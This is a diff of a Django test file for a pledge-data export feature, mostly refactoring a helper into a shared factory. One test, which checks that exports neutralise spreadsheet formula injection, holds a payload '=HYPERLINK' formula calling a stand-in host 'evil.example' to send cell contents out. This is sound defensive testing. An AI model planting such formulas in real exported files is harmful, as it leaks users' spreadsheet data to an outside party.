@@ -25,21 +25,21 @@ from pledges.models import (
     PledgePartner,
     ReviewState,
 )
-from tests.factories import OrganisationFactory, PledgeFactory, UserFactory, objective
+from tests.factories import (
+    OrganisationFactory,
+    PledgeFactory,
+    UserFactory,
+    objective,
+    published_pledge,
+)
 
 pytestmark = pytest.mark.django_db
-
-
-def published(**fields):
-    pledge = PledgeFactory(published=True, **fields)
-    PledgeObjective.objects.create(pledge=pledge, objective=objective(6), main_rank=1)
-    return pledge
 
 
 @pytest.fixture
 def pledges():
     union = OrganisationFactory(name="Kenya Workers Union", kind=OrganisationKind.TRADE_UNION)
-    fair = published(
+    fair = published_pledge(
         title="Fair recruitment corridors",
         lead_organisation=union,
         created_by=UserFactory(email="author.private@example.org", full_name="Ann Author"),
@@ -68,7 +68,7 @@ def pledges():
         pledge=fair, organisation=OrganisationFactory(name="Declining Body"), status="declined"
     )
     PledgePartner.objects.create(pledge=fair, invited_email="invitee.private@example.org")
-    remit = published(title="Cheaper remittances for families", is_global=True)
+    remit = published_pledge(title="Cheaper remittances for families", is_global=True)
     fair.matches = remit
     fair.save()
     hidden = [
@@ -220,7 +220,7 @@ def test_a_filter_value_that_names_nothing_is_a_plain_400(client, pledges, name)
 
 @pytest.mark.parametrize("name", ["explorer_csv", "explorer_xlsx"])
 def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(client, name):
-    published(
+    published_pledge(
         title='=HYPERLINK("http://evil.example/?"&A1,"click")',
         lead_organisation=OrganisationFactory(name="@SUM(1+1)"),
         amount=Decimal(12),
@@ -246,7 +246,7 @@ def test_a_download_costs_the_same_whatever_the_number_of_pledges(
     kenya, uganda = Area.objects.get(iso3="KEN"), Area.objects.get(iso3="UGA")
     principle = GuidingPrinciple.objects.get(letter="a")
     for n in range(count):
-        pledge = published(title=f"Pledge {n}")
+        pledge = published_pledge(title=f"Pledge {n}")
         pledge.areas.add(kenya, uganda)
         pledge.principles.add(principle)
         PledgePartner.objects.create(
@@ -262,7 +262,7 @@ def test_a_download_costs_the_same_whatever_the_number_of_pledges(
 
 def test_related_rows_are_read_once_per_chunk_not_once_per_pledge(django_assert_num_queries):
     for n in range(25):
-        published(title=f"Pledge {n}").areas.add(Area.objects.get(iso3="KEN"))
+        published_pledge(title=f"Pledge {n}").areas.add(Area.objects.get(iso3="KEN"))
     # The pledges (one query), then for each of the three chunks of 10 the partners,
     # objectives, principles and areas.
     with django_assert_num_queries(1 + 3 * 4):
